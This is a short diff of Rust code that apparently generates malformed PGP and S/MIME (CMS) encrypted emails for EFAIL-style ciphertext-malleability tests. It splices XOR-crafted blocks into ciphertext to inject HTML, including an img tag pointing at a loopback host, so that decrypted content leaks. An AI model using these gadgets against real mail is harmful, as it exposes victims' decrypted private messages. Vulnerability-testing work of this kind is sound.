@@ -47,7 +47,12 @@ impl Pgp {
             let head = [&self.sealed[..18], &[known[0] ^ 0xd5, known[1] ^ (28 + at)], &[0; 12]].concat();
             [&head, &self.sealed[16..32], &zeros, &[x], &vec![7; usize::from(15 - at) + 80]].concat()
         };
-        [first, deeper(0), deeper(7), deeper(15)].iter().map(|sealed| Self::mail(&self.session, sealed)).collect()
+        let first = Some(first).filter(|first| *first != self.sealed);
+        first
+            .into_iter()
+            .chain([deeper(0), deeper(7), deeper(15)])
+            .map(|sealed| Self::mail(&self.session, &sealed))
+            .collect()
     }
 
     /// Messages whose plaintext is good and whose end is not, and ones whose session key is not.
@@ -168,8 +173,8 @@ impl Cms {
         let block = xor(b"Content-Type: te", self.vector());
         let vector = xor(&block, b"Content-Type:  (");
         let mut sealed = first.to_vec();
-        for wanted in [b")text/html\r\n\r\n<b", b" c='>'><img d='  ", b"'  src='//[::1]/"] {
-            sealed.extend(xor(&block, &wanted[..16]));
+        for wanted in [&b")text/html\r\n\r\n<b"[..], b" c='>'><img d=' ", b"'  src='//[::1]/"] {
+            sealed.extend(xor(&block, wanted));
             sealed.extend(first);
         }
         sealed.extend(&self.sealed()[16..]);
